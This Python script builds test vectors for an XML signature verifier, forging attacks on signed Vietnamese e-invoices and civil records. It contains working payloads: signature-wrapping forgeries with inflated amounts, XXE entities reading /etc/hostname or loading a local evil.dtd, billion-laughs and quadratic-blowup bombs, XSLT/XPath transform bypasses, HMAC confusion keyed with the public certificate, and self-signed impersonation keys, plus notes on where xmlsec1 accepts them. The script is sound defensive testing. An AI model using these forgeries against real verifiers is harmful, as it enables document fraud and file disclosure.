#!/usr/bin/python3
"""make-xml-attacks.py -- attacks on signed XML for the verifier, each made
from a legitimately signed base, and their MANIFEST.tsv.

    testvectors/attacks/xml/make-xml-attacks.py

Run it with Debian's /usr/bin/python3 (lxml); needs xmlsec1 (1.2.37) and
openssl. Two bases are signed with `xmlsec1 --sign` from templates built on
the profile inputs in ../../xml/ with the fixed PKI (signer-rsa2048; its
certificate and the intermediate in X509Data):

  base-enveloped.xml  KetQuaThuTuc (xades-input.xml), ds:Signature appended to
                      the document element, URI="", enveloped-signature +
                      exc-c14n, RSA-SHA256
  base-idref.xml      the e-invoice (einvoice-input.xml), Signature (default
                      namespace, Id="seller") in DSCKS/NBan, C14N 1.0,
                      URI="#data" (DLHDon/@Id) with a C14N transform plus
                      URI="#SigningTime" (a ds:Object)

Each attack edits the base's bytes as text (so what is not attacked stays
byte-identical), or re-signs a variant of the base's template (the ALG and
KEY rows that need a signature over something else). Every file is then shown
to `xmlsec1 --verify --trusted-pem root-ca.crt --untrusted-pem inter-ca.crt
--id-attr:Id DLHDon`, and its answer goes in the manifest's notes.

Byte-reproducible: RSA PKCS#1 v1.5 signatures are deterministic, and the one
key not in the fixed PKI (keys/self-signed-rsa2048.*, for the KEY rows) is
made once and committed like it.
"""

import base64
import hashlib
import hmac
import os
import re
import subprocess
import sys
import tempfile

sys.dont_write_bytecode = True  # no __pycache__ in testvectors/
HERE = os.path.dirname(os.path.abspath(__file__))
VECTORS = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(VECTORS, "xml"))

import xmlsig  # noqa: E402
from xmlsig import (C14N, DSIG, ENVELOPED, EXC_C14N, HMAC_SHA256, RSA_SHA256, SHA256,  # noqa: E402
                    XPATH, XSLT, reference, signature, x509data)

INPUTS = os.path.join(VECTORS, "xml")
KEYS = os.path.join(HERE, "keys")
SELF_KEY = os.path.join(KEYS, "self-signed-rsa2048.key")
SELF_CRT = os.path.join(KEYS, "self-signed-rsa2048.crt")
SIGNER_KEY, SIGNER_CRT = xmlsig.key_files("signer-rsa2048")
SIGNING_TIME = "2025-01-15T10:20:30+07:00"
DEEP = 25000  # nesting levels of dos-deep-nesting.xml: 7 bytes each, the file stays under 200 KB


def read(path):
    with open(path, encoding="utf-8") as f:
        return f.read()


def write(name, text):
    with open(os.path.join(HERE, name), "w", encoding="utf-8", newline="\n") as f:
        f.write(text)


def replace_once(text, old, new):
    if text.count(old) != 1:
        raise SystemExit("make-xml-attacks: %r occurs %d times, expected once" % (old, text.count(old)))
    return text.replace(old, new)


# --- templates -------------------------------------------------------------

XADES = read(os.path.join(INPUTS, "xades-input.xml"))
EINVOICE = read(os.path.join(INPUTS, "einvoice-input.xml"))


def enveloped_sig(transforms=((ENVELOPED, ""), (EXC_C14N, "")), method=RSA_SHA256,
                  extra_refs=(), keyinfo=None):
    """base-enveloped's signature (ds prefix), or a variant of it."""
    return signature("ds:", EXC_C14N, method,
                     [reference("", SHA256, transforms)] + list(extra_refs),
                     keyinfo or x509data("ds:"))


def idref_sig(data_transforms=((C14N, ""),)):
    """base-idref's signature (default namespace, e-invoice style), or a variant."""
    obj = ('<Object Id="SigningTime"><SignatureProperties><SignatureProperty Target="#seller">'
           '<SigningTime>%s</SigningTime></SignatureProperty></SignatureProperties></Object>'
           % SIGNING_TIME)
    return signature("", C14N, RSA_SHA256,
                     [reference("#data", SHA256, data_transforms), reference("#SigningTime")],
                     x509data("", xmlsig.subject_rfc4514(SIGNER_CRT)), sig_id="seller", objects=obj)


def sign(template_text, key=SIGNER_KEY, certs=(SIGNER_CRT, xmlsig.INTER_CA), extra=()):
    """The signed text of a template, signed by xmlsec1."""
    with tempfile.TemporaryDirectory(prefix="xml-attacks.") as tmp:
        tmpl, out = os.path.join(tmp, "t.xml"), os.path.join(tmp, "s.xml")
        with open(tmpl, "w", encoding="utf-8", newline="\n") as f:
            f.write(template_text)
        xmlsig.xmlsec1_sign(tmpl, out, key, list(certs), extra)
        return read(out)


def self_signed_key():
    """A fresh key with a self-signed certificate claiming the real signer's
    name; made once, then kept (committed) so the KEY rows reproduce."""
    if os.path.isfile(SELF_KEY) and os.path.isfile(SELF_CRT):
        return
    os.makedirs(KEYS, exist_ok=True)
    code, out = xmlsig.run(["openssl", "req", "-x509", "-utf8", "-newkey", "rsa:2048", "-nodes",
                            "-keyout", SELF_KEY, "-out", SELF_CRT, "-days", "7300",
                            "-subj", "/C=VN/ST=Đà Nẵng/L=Đà Nẵng/O=Ủy ban nhân dân xã Chí Minh"
                                     "/OU=Văn phòng/CN=Nguyễn Văn Ánh/UID=CCCD:001080012345",
                            "-addext", "keyUsage=critical,digitalSignature,nonRepudiation"])
    if code != 0:
        raise SystemExit("make-xml-attacks: openssl req failed:\n" + out)
    os.chmod(SELF_KEY, 0o644)


# --- edits -----------------------------------------------------------------

def dlhdon(doc):
    """(start, end) of the signed <DLHDon Id="data">...</DLHDon>."""
    m = re.search(r'<DLHDon Id="data">.*?</DLHDon>', doc, re.S)
    return m.start(), m.end()


def forged_dlhdon(original, ident):
    """A forged invoice body: another buyer, ten times the amount."""
    text = original.replace('<DLHDon Id="data">', "<DLHDon%s>" % (' Id="%s"' % ident if ident else ""))
    for old, new in [("<Ten>Ủy ban nhân dân xã Chí Minh</Ten>", "<Ten>Công ty TNHH Một thành viên Lê Gia</Ten>"),
                     ("<MST>0401234567</MST>", "<MST>0409876543</MST>"),
                     ("<SLuong>10</SLuong>", "<SLuong>100</SLuong>"),
                     ("<ThTien>650000</ThTien>", "<ThTien>6500000</ThTien>"),
                     ("<TgTTTBSo>1100000</TgTTTBSo>", "<TgTTTBSo>7535000</TgTTTBSo>"),
                     ("<TgTTTBChu>Một triệu một trăm nghìn đồng chẵn</TgTTTBChu>",
                      "<TgTTTBChu>Bảy triệu năm trăm ba mươi lăm nghìn đồng chẵn</TgTTTBChu>")]:
        text = replace_once(text, old, new)
    text = text.replace("<ThTien>1000000</ThTien>", "<ThTien>6850000</ThTien>")
    text = text.replace("<TgTCThue>1000000</TgTCThue>", "<TgTCThue>6850000</TgTCThue>")
    text = text.replace("<TThue>100000</TThue>", "<TThue>685000</TThue>")
    return text.replace("<TgTThue>100000</TgTThue>", "<TgTThue>685000</TgTThue>")


def wrapped(element):
    """The element inside a new <TTKhac> wrapper, as the last child of HDon."""
    return "  <TTKhac>\n    " + element + "\n  </TTKhac>\n"


def xsw_moved(base, forged_id, original_first=False):
    """The signed DLHDon moved into a wrapper; a forged DLHDon in its place."""
    s, e = dlhdon(base)
    original = base[s:e]
    forged = forged_dlhdon(original, forged_id)
    if original_first:
        return base[:s] + "<TTKhac>\n    " + original + "\n  </TTKhac>\n  " + forged + base[e:]
    doc = base[:s] + forged + base[e:]
    end = doc.rfind("</HDon>")
    return doc[:end] + wrapped(original) + doc[end:]


def xsw_in_object(base):
    """The signed DLHDon moved into a new ds:Object of the signature (with
    xmlns="" so it stays in no namespace); a forged copy without Id in its place."""
    s, e = dlhdon(base)
    original = base[s:e]
    doc = base[:s] + forged_dlhdon(original, None) + base[e:]
    moved = original.replace("<DLHDon ", '<DLHDon xmlns="" ', 1)
    return replace_once(doc, "\n      </Signature>", "\n        <Object>" + moved + "</Object>\n      </Signature>")


def xsw_wrap_document(base, sig_open, sig_close, root_open, new_root_open, object_tag):
    """The signature taken out of the document and made the document element;
    the whole document moved into a new Object of it (enveloping style)."""
    s = base.index(sig_open)
    e = base.index(sig_close, s) + len(sig_close)
    sig = base[s:e]
    decl_end = base.index("?>") + 2
    doc = base[decl_end:s].rstrip(" ") + base[e:]
    doc = doc.replace("<NBan>\n\n    </NBan>", "<NBan/>").replace("\n\n</", "\n</")
    doc = replace_once(doc, root_open, new_root_open).strip("\n")
    inner = sig[:-len(sig_close)].rstrip()
    return (base[:decl_end] + "\n" + inner + "\n  <%s>" % object_tag + doc + "</%s>\n" % object_tag +
            sig_close + "\n")


def add_doctype(base, root, subset=None, system=None):
    decl_end = base.index("?>\n") + 3
    doctype = "<!DOCTYPE %s%s%s>\n" % (root, ' SYSTEM "%s"' % system if system else "",
                                      " [\n" + subset + "\n]" if subset else "")
    return base[:decl_end] + doctype + base[decl_end:]


def hmac_signed(base, key):
    """base-enveloped with SignatureMethod HMAC-SHA256 and a correct HMAC of
    its exclusive-C14N SignedInfo under key (KeyInfo left as it was)."""
    from lxml import etree
    doc = replace_once(base, RSA_SHA256, HMAC_SHA256)
    tree = etree.fromstring(doc.encode("utf-8"))
    ns = {"ds": DSIG}
    signed_info = tree.find(".//ds:SignedInfo", ns)
    c14n = etree.tostring(signed_info, method="c14n", exclusive=True, with_comments=False)
    mac = base64.b64encode(hmac.new(key, c14n, hashlib.sha256).digest()).decode()
    return re.sub(r"<ds:SignatureValue>[^<]*</ds:SignatureValue>",
                  "<ds:SignatureValue>%s</ds:SignatureValue>" % mac, doc, count=1)


def der(cert):
    code = subprocess.run(["openssl", "x509", "-in", cert, "-outform", "DER"],
                          stdout=subprocess.PIPE, check=True)
    return code.stdout


# --- the set ---------------------------------------------------------------

def build():
    """[(file, class, base, description, status, subindication, text, note template)]"""
    self_signed_key()
    rows = []

    def add(name, cls, base, what, status, sub, text, note=""):
        rows.append((name, cls, base, what, status, sub, text, note))

    E = sign(xmlsig.enveloped(XADES, enveloped_sig()))
    I = sign(xmlsig.in_dscks_nban(EINVOICE, idref_sig()))
    add("base-enveloped.xml", "CONTROL", "-",
        "KetQuaThuTuc (../../xml/xades-input.xml) signed by xmlsec1: ds:Signature appended to the document "
        'element, URI="" enveloped-signature + exc-c14n, RSA-SHA256, signer-rsa2048 + inter-ca in X509Data',
        "TOTAL-PASSED", "-", E)
    add("base-idref.xml", "CONTROL", "-",
        "e-invoice (../../xml/einvoice-input.xml) signed by xmlsec1: Signature Id=seller (default namespace) in "
        'DSCKS/NBan, C14N 1.0, URI="#data" (DLHDon/@Id, C14N transform) + URI="#SigningTime" (ds:Object), '
        "RSA-SHA256, X509SubjectName + signer-rsa2048 + inter-ca in X509Data",
        "TOTAL-PASSED", "-", I)

    # XSW: the signed element is still there and still hashes; it is just not where the reader looks.
    add("xsw-moved-forged-no-id.xml", "XSW", "base-idref.xml",
        "signed DLHDon Id=data moved into a new <TTKhac> wrapper after DSCKS; a forged DLHDon without Id "
        "(other buyer, 7 535 000 VND) at /HDon/DLHDon",
        "TOTAL-FAILED", "FORMAT_FAILURE", xsw_moved(I, None))
    add("xsw-moved-forged-other-id.xml", "XSW", "base-idref.xml",
        "as xsw-moved-forged-no-id, the forged DLHDon with Id=data-2",
        "TOTAL-FAILED", "FORMAT_FAILURE", xsw_moved(I, "data-2"))
    add("xsw-duplicate-id-forged-first.xml", "XSW", "base-idref.xml",
        "forged DLHDon with the same Id=data at /HDon/DLHDon, the signed one (Id=data) after it in a "
        "<TTKhac> wrapper: two elements with one ID, the forged first in document order",
        "TOTAL-FAILED", "FORMAT_FAILURE", xsw_moved(I, "data"))
    add("xsw-duplicate-id-original-first.xml", "XSW", "base-idref.xml",
        "the signed DLHDon (Id=data) first, in a <TTKhac> wrapper, then the forged DLHDon with Id=data at "
        "the place of /HDon/DLHDon: two elements with one ID, the signed first in document order",
        "TOTAL-FAILED", "FORMAT_FAILURE", xsw_moved(I, "data", original_first=True))
    add("xsw-signed-in-object.xml", "XSW", "base-idref.xml",
        'the signed DLHDon moved into a new <Object> of the Signature (with xmlns="", which C14N 1.0 '
        "does not output at the apex, so its digest is unchanged); a forged DLHDon without Id at /HDon/DLHDon",
        "TOTAL-FAILED", "FORMAT_FAILURE", xsw_in_object(I))
    add("xsw-wrap-document-idref.xml", "XSW", "base-idref.xml",
        "the Signature taken out of DSCKS/NBan and made the document element; the whole HDon (xmlns=\"\") "
        "moved into a new <Object> of it: an enveloping signature over the same DLHDon, no longer an e-invoice",
        "TOTAL-FAILED", "FORMAT_FAILURE",
        xsw_wrap_document(I, '<Signature xmlns="%s" Id="seller">' % DSIG, "</Signature>",
                          "<HDon>", '<HDon xmlns="">', "Object"))
    add("xsw-wrap-document-enveloped.xml", "XSW", "base-enveloped.xml",
        "the ds:Signature made the document element, KetQuaThuTuc moved into a new ds:Object of it "
        '(URI="" with enveloped-signature then selects nothing but whitespace: the digest no longer '
        "matches)",
        "TOTAL-FAILED", "HASH_FAILURE",
        xsw_wrap_document(E, '<ds:Signature xmlns:ds="%s">' % DSIG, "</ds:Signature>",
                          '<KetQuaThuTuc PhienBan="1.0">', '<KetQuaThuTuc PhienBan="1.0">', "ds:Object"))
    add("xsw-comment-injection-idref.xml", "XSW", "base-idref.xml",
        "a comment inside the signed total: <TgTTTBSo>1<!---->100000</TgTTTBSo>; C14N without comments "
        "gives the same digest, a reader taking the first text node sees 1",
        "TOTAL-FAILED", "FORMAT_FAILURE",
        replace_once(I, "<TgTTTBSo>1100000</TgTTTBSo>", "<TgTTTBSo>1<!---->100000</TgTTTBSo>"))
    add("xsw-comment-injection-enveloped.xml", "XSW", "base-enveloped.xml",
        "a comment inside the signed personal number: <SoDinhDanhCaNhan>048325<!---->000123"
        "</SoDinhDanhCaNhan>; URI=\"\" drops comments, so the digest is unchanged",
        "TOTAL-FAILED", "FORMAT_FAILURE",
        replace_once(E, "<SoDinhDanhCaNhan>048325000123<", "<SoDinhDanhCaNhan>048325<!---->000123<"))

    # MODIFY: plain changes to signed content.
    add("modify-one-byte.xml", "MODIFY", "base-idref.xml",
        "one byte of the signed total changed: TgTTTBSo 1100000 -> 7100000",
        "TOTAL-FAILED", "HASH_FAILURE",
        replace_once(I, "<TgTTTBSo>1100000</TgTTTBSo>", "<TgTTTBSo>7100000</TgTTTBSo>"))
    add("modify-attribute.xml", "MODIFY", "base-enveloped.xml",
        'an attribute of the signed document element changed: PhienBan="1.0" -> "1.1"',
        "TOTAL-FAILED", "HASH_FAILURE",
        replace_once(E, '<KetQuaThuTuc PhienBan="1.0">', '<KetQuaThuTuc PhienBan="1.1">'))
    add("modify-element-added.xml", "MODIFY", "base-idref.xml",
        "a third invoice line (HHDVu) added inside the signed DSHHDVu",
        "TOTAL-FAILED", "HASH_FAILURE",
        replace_once(I, "        </HHDVu>\n      </DSHHDVu>",
                     "        </HHDVu>\n        <HHDVu>\n          <TChat>1</TChat>\n          <STT>3</STT>\n"
                     "          <THHDVu>Bút bi Thiên Long</THHDVu>\n          <DVTinh>Hộp</DVTinh>\n"
                     "          <SLuong>5</SLuong>\n          <DGia>60000</DGia>\n"
                     "          <ThTien>300000</ThTien>\n          <TSuat>10%</TSuat>\n"
                     "        </HHDVu>\n      </DSHHDVu>"))
    add("modify-id-renamed.xml", "MODIFY", "base-idref.xml",
        'the signed element\'s Id changed: DLHDon Id="data" -> Id="data1", so URI="#data" points at nothing',
        "INDETERMINATE", "SIGNED_DATA_NOT_FOUND",
        replace_once(I, '<DLHDon Id="data">', '<DLHDon Id="data1">'))
    sv = re.search(r"<SignatureValue>([A-Za-z0-9+/])", I)
    flipped = "B" if sv.group(1) != "B" else "C"
    add("modify-signature-value.xml", "MODIFY", "base-idref.xml",
        "first base64 character of SignatureValue changed (%s -> %s): the content is intact, the "
        "signature over SignedInfo is not" % (sv.group(1), flipped),
        "TOTAL-FAILED", "SIG_CRYPTO_FAILURE", I[:sv.start(1)] + flipped + I[sv.end(1):])

    # XXE: a DTD in a signed document, whatever it does, is a format failure.
    add("xxe-external-entity.xml", "XXE", "base-enveloped.xml",
        "internal DTD subset declaring <!ENTITY xxe SYSTEM \"file:///etc/hostname\">, &xxe; as the signed "
        "NoiDung text",
        "TOTAL-FAILED", "FORMAT_FAILURE",
        add_doctype(re.sub(r"<NoiDung>[^<]*</NoiDung>", "<NoiDung>&xxe;</NoiDung>", E, count=1),
                    "KetQuaThuTuc", '  <!ENTITY xxe SYSTEM "file:///etc/hostname">'))
    add("xxe-parameter-entity.xml", "XXE", "base-enveloped.xml",
        "internal DTD subset with a parameter entity loading http://127.0.0.1:9/evil.dtd (%xxe;) "
        "(out-of-band XXE); signed content unchanged",
        "TOTAL-FAILED", "FORMAT_FAILURE",
        add_doctype(E, "KetQuaThuTuc", '  <!ENTITY % xxe SYSTEM "http://127.0.0.1:9/evil.dtd">\n  %xxe;'))
    add("xxe-external-dtd.xml", "XXE", "base-enveloped.xml",
        '<!DOCTYPE KetQuaThuTuc SYSTEM "http://127.0.0.1:9/evil.dtd">; signed content unchanged',
        "TOTAL-FAILED", "FORMAT_FAILURE",
        add_doctype(E, "KetQuaThuTuc", system="http://127.0.0.1:9/evil.dtd"))

    # DOS: small files that expand, and one deep tree.
    lol = ['  <!ENTITY lol0 "lol">'] + ['  <!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1)) * 10)
                                       for i in range(1, 10)]
    add("dos-billion-laughs.xml", "DOS", "base-enveloped.xml",
        "billion laughs: lol0 = \"lol\", lol1..lol9 = 10 x the previous; &lol9; (10^9 x \"lol\", 3 GB) as "
        "the signed NoiDung text",
        "TOTAL-FAILED", "FORMAT_FAILURE",
        add_doctype(re.sub(r"<NoiDung>[^<]*</NoiDung>", "<NoiDung>&lol9;</NoiDung>", E, count=1),
                    "KetQuaThuTuc", "\n".join(lol)))
    add("dos-quadratic-blowup.xml", "DOS", "base-enveloped.xml",
        "quadratic blowup: one entity of 20 000 characters referenced 2 000 times in the signed NoiDung "
        "(40 MB of text from 26 KB, no nesting for entity-depth limits to catch)",
        "TOTAL-FAILED", "FORMAT_FAILURE",
        add_doctype(re.sub(r"<NoiDung>[^<]*</NoiDung>", "<NoiDung>%s</NoiDung>" % ("&a;" * 2000), E, count=1),
                    "KetQuaThuTuc", '  <!ENTITY a "%s">' % ("x" * 20000)))
    add("dos-deep-nesting.xml", "DOS", "base-idref.xml",
        "%d nested <a> elements in the unsigned DSCKS/CCKSKhac (the signed DLHDon is untouched)" % DEEP,
        "TOTAL-FAILED", "FORMAT_FAILURE",
        replace_once(I, "<CCKSKhac/>", "<CCKSKhac>" + "<a>" * DEEP + "</a>" * DEEP + "</CCKSKhac>"))

    # ALG: algorithms and references a verifier must refuse.
    hmac_key = der(SIGNER_CRT)
    add("alg-hmac-sha256.xml", "ALG", "base-enveloped.xml",
        "SignatureMethod changed to hmac-sha256 and SignatureValue replaced by a correct HMAC-SHA256 of "
        "SignedInfo keyed with the DER bytes of the signer's (public) certificate, which KeyInfo still carries",
        "TOTAL-FAILED", "SIG_CRYPTO_FAILURE", hmac_signed(E, hmac_key),
        note="xmlsec1 --verify --hmackey FILE (FILE = the DER of signer-rsa2048.crt, no --trusted-pem) says: %s; with --trusted-pem as well the X509Data certificate verifies, its RSA key is taken and no HMAC key is found")
    xslt = ('<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
            '<xsl:output method="text"/><xsl:template match="/">'
            '<xsl:value-of select="//SHDon"/></xsl:template></xsl:stylesheet>')
    signed = sign(xmlsig.in_dscks_nban(EINVOICE, idref_sig([(XSLT, xslt)])))
    add("alg-xslt-transform.xml", "ALG", "base-idref.xml",
        "base-idref's template re-signed with an XSLT transform on URI=\"#data\" that outputs only the "
        "invoice number (//SHDon), then the total changed to 7100000 (still verifies: the rest is not signed)",
        "TOTAL-FAILED", "FORMAT_FAILURE",
        replace_once(signed, "<TgTTTBSo>1100000</TgTTTBSo>", "<TgTTTBSo>7100000</TgTTTBSo>"))
    signed = sign(xmlsig.enveloped(XADES, enveloped_sig(
        [(ENVELOPED, ""), (XPATH, "<ds:XPath>not(ancestor-or-self::NoiDung)</ds:XPath>"), (EXC_C14N, "")])))
    add("alg-xpath-transform.xml", "ALG", "base-enveloped.xml",
        "base-enveloped's template re-signed with an XPath filter not(ancestor-or-self::NoiDung) after "
        "enveloped-signature, then NoiDung changed to a refusal (still verifies: NoiDung is not signed)",
        "TOTAL-FAILED", "FORMAT_FAILURE",
        re.sub(r"<NoiDung>[^<]*</NoiDung>",
               "<NoiDung>Từ chối đăng ký khai sinh: hồ sơ không hợp lệ.</NoiDung>", signed, count=1))
    add("alg-retrieval-method.xml", "ALG", "base-enveloped.xml",
        "a ds:RetrievalMethod URI=\"http://127.0.0.1:9/signer.crt\" (Type rawX509Certificate) put first in "
        "the (unsigned) KeyInfo, before the X509Data: a verifier must not fetch it",
        "TOTAL-FAILED", "FORMAT_FAILURE",
        re.sub(r"<ds:KeyInfo>(\s*)", lambda m: m.group(0) + '<ds:RetrievalMethod '
               'URI="http://127.0.0.1:9/signer.crt" '
               'Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate"/>' + m.group(1), E, count=1))
    with tempfile.TemporaryDirectory(prefix="xml-attacks.") as tmp:
        remote = os.path.join(tmp, "x")
        with open(remote, "w") as f:
            f.write("Nội dung bên ngoài, do người tấn công phục vụ.\n")
        add("alg-external-uri-http.xml", "ALG", "base-enveloped.xml",
            "base-enveloped's template re-signed with a second Reference URI=\"http://127.0.0.1:9/x\" (signed "
            "with xmlsec1 --url-map: the digest is of a local file): a verifier must not fetch it",
            "TOTAL-FAILED", "FORMAT_FAILURE",
            sign(xmlsig.enveloped(XADES, enveloped_sig(extra_refs=[reference("http://127.0.0.1:9/x")])),
                 extra=["--url-map:http://127.0.0.1:9/x", remote]))
        add("alg-external-uri-file.xml", "ALG", "base-enveloped.xml",
            "base-enveloped's template re-signed with a second Reference URI=\"file:///etc/hostname\" "
            "(signed with xmlsec1 --url-map: the digest is of a local file): a verifier must not read it",
            "TOTAL-FAILED", "FORMAT_FAILURE",
            sign(xmlsig.enveloped(XADES, enveloped_sig(extra_refs=[reference("file:///etc/hostname")])),
                 extra=["--url-map:file:///etc/hostname", remote]))

    # KEY: signatures that verify, by keys that do not chain to the root.
    add("key-self-signed.xml", "KEY", "base-enveloped.xml",
        "base-enveloped's template signed by a fresh key (keys/self-signed-rsa2048.key) whose self-signed "
        "certificate, with the real signer's subject, is the only one in X509Data",
        "INDETERMINATE", "NO_CERTIFICATE_CHAIN_FOUND",
        sign(xmlsig.enveloped(XADES, enveloped_sig()), key=SELF_KEY, certs=[SELF_CRT]),
        note="with --trusted-pem keys/self-signed-rsa2048.crt xmlsec1 says: %s")
    add("key-keyvalue-only.xml", "KEY", "base-enveloped.xml",
        "base-enveloped's template signed by signer-rsa2048's key, KeyInfo holding only its ds:KeyValue "
        "(RSAKeyValue), no certificate",
        "INDETERMINATE", "NO_SIGNING_CERTIFICATE_FOUND",
        sign(xmlsig.enveloped(XADES, enveloped_sig(keyinfo="<ds:KeyValue/>")), certs=()))
    add("key-signed-by-ca.xml", "KEY", "base-enveloped.xml",
        "base-enveloped's template signed by the issuing CA's own key (inter-ca.key of the fixed PKI: "
        "keyUsage keyCertSign, cRLSign only), inter-ca.crt alone in X509Data: it chains to the root, "
        "but a CA certificate is not a signing certificate (its key usage excludes signatures: "
        "TOTAL-FAILED SIG_CONSTRAINTS_FAILURE, as for PDF signatures)",
        "TOTAL-FAILED", "SIG_CONSTRAINTS_FAILURE",
        sign(xmlsig.enveloped(XADES, enveloped_sig()), key=os.path.join(xmlsig.PKI, "inter-ca.key"),
             certs=[xmlsig.INTER_CA]))
    victim_x509 = re.search(r"<ds:X509Data>.*?</ds:X509Data>", E, re.S).group(0)
    signed = sign(xmlsig.enveloped(XADES, enveloped_sig(keyinfo="<ds:KeyValue/>")), key=SELF_KEY, certs=())
    add("key-keyvalue-with-victim-cert.xml", "KEY", "base-enveloped.xml",
        "signed by the self-signed key, KeyInfo = its ds:KeyValue followed by base-enveloped's X509Data "
        "(the real signer's certificate + inter-ca): the certificate names the victim, the signature is "
        "not by the certified key",
        "TOTAL-FAILED", "SIG_CRYPTO_FAILURE",
        re.sub(r"</ds:KeyValue>(\s*)", lambda m: m.group(0) + victim_x509 + m.group(1), signed, count=1))
    return rows


def notes_for(path, row):
    name, extra_note = row[0], row[7]
    code, said = xmlsig.xmlsec1_verify(path)
    note = "xmlsec1 --verify: " + said
    if name == "alg-hmac-sha256.xml":
        with tempfile.TemporaryDirectory(prefix="xml-attacks.") as tmp:
            key = os.path.join(tmp, "hmac.key")
            with open(key, "wb") as f:
                f.write(der(SIGNER_CRT))
            note += "; " + extra_note % xmlsig.xmlsec1_verify(path, trusted=None, untrusted=None,
                                                               extra=["--hmackey", key])[1]
    elif name == "key-self-signed.xml":
        note += "; " + extra_note % xmlsig.xmlsec1_verify(path, trusted=SELF_CRT, untrusted=None)[1]
    return code, note


NOTES = {
    "xsw-comment-injection-idref.xml": "plain xmlsec1 says OK: comments are not in C14N 1.0 without "
        "comments, so the digest is unchanged; the verifier must still not say TOTAL-PASSED (comments inside "
        "signed text are a format failure)",
    "xsw-comment-injection-enveloped.xml": "plain xmlsec1 says OK: URI=\"\" and exc-c14n drop comments; "
        "the verifier must still not say TOTAL-PASSED",
    "key-keyvalue-only.xml": "xmlsec1 accepts a bare ds:KeyValue (no certificate, nothing to chain): "
        "keys from KeyValue are not checked against --trusted-pem",
    "key-keyvalue-with-victim-cert.xml": "xmlsec1 takes the first key it can read (the KeyValue) and "
        "never compares it with the certificate after it",
    "dos-deep-nesting.xml": "the xmlsec1 command line parses all the levels and verifies the untouched "
        "DLHDon; xmllint and lxml refuse the file at level 256 (libxml2 2.9.14 without XML_PARSE_HUGE; with "
        "it, 2.9.14 has no depth limit)",
    "dos-billion-laughs.xml": "xmlsec1 1.2.37 crashes: stack overflow (SIGSEGV, 262 000 frames of "
        "xmlSecFindNode in gdb) while looking for the Signature among the entity reference nodes; "
        "xmllint and lxml stop at 'Detected an entity reference loop' (libxml2's amplification guard)",
    "dos-quadratic-blowup.xml": "xmlsec1 does not substitute entities: exc-c14n refuses the entity reference nodes",
    "xxe-external-entity.xml": "xmlsec1 does not substitute entities, even with --xxe: exc-c14n refuses the "
        "entity reference node, and /etc/hostname is never opened (strace)",
    "xxe-parameter-entity.xml": "plain xmlsec1 says OK: it loads no external entity (no connection to port 9 "
        "under strace, with or without --xxe), so the DTD does nothing and the signed content is intact",
    "xxe-external-dtd.xml": "plain xmlsec1 says OK: the external DTD is not loaded (no connection under "
        "strace, with or without --xxe)",
    "xsw-duplicate-id-forged-first.xml": "the xmlsec1 command line refuses duplicate IDs only because of "
        "--id-attr; library users registering IDs themselves must check",
    "xsw-duplicate-id-original-first.xml": "as the forged-first order",
    "key-self-signed.xml": "with --untrusted-pem inter-ca.crt xmlsec1, finding no chain for the "
        "KeyInfo certificate, picks the intermediate (which does chain) and verifies with ITS key, hence "
        "'data do not match'; with only --trusted-pem root-ca.crt it says 'key is not found'",
    "key-signed-by-ca.xml": "plain xmlsec1 says OK: it checks that the certificate chains, not its key "
        "usage",
    "alg-retrieval-method.xml": "xmlsec1 tries the RetrievalMethod URI first (connection refused on port 9) "
        "and then gives up on KeyInfo without reading the X509Data",
    "alg-external-uri-http.xml": "xmlsec1 fetches remote references by default (connection refused on "
        "port 9); --enabled-reference-uris empty,same-doc would refuse them",
    "alg-external-uri-file.xml": "xmlsec1 read the verifying machine's /etc/hostname and hashed it",
    "alg-xslt-transform.xml": "plain xmlsec1 says OK although the total was changed after signing: "
        "xmlsec1 1.2.37 runs XSLT transforms by default",
    "alg-xpath-transform.xml": "plain xmlsec1 says OK although NoiDung was changed after signing",
    "xsw-moved-forged-no-id.xml": "plain xmlsec1 says OK: it verifies the signed DLHDon wherever it is",
    "xsw-moved-forged-other-id.xml": "plain xmlsec1 says OK",
    "xsw-signed-in-object.xml": "plain xmlsec1 says OK",
    "xsw-wrap-document-idref.xml": "plain xmlsec1 says OK: a valid enveloping signature",
}


def main():
    rows = build()
    header = ["file", "class", "base", "description", "expected_status", "expected_subindication", "notes"]
    out = []
    for row in rows:
        name, cls, base, what, status, sub, text = row[:7]
        write(name, text)
        if len(text.encode("utf-8")) > 200 * 1024:
            raise SystemExit("make-xml-attacks: %s is over 200 KB" % name)
    for row in rows:
        name, cls, base, what, status, sub = row[:6]
        code, note = notes_for(os.path.join(HERE, name), row)
        if cls == "CONTROL" and code != 0:
            raise SystemExit("make-xml-attacks: control %s does not verify: %s" % (name, note))
        if name in NOTES:
            note += "; " + NOTES[name]
        out.append([name, cls, base, what, status, sub, note])
    with open(os.path.join(HERE, "MANIFEST.tsv"), "w", encoding="utf-8", newline="\n") as f:
        for r in [header] + out:
            if any("\t" in c or "\n" in c for c in r):
                raise SystemExit("make-xml-attacks: tab or newline in a manifest cell: %r" % (r,))
            f.write("\t".join(r) + "\n")
    print("make-xml-attacks: %d files, MANIFEST.tsv written" % len(out))
    for r in out:
        print("  %-40s %s" % (r[0], r[6][:150]))


if __name__ == "__main__":
    main()
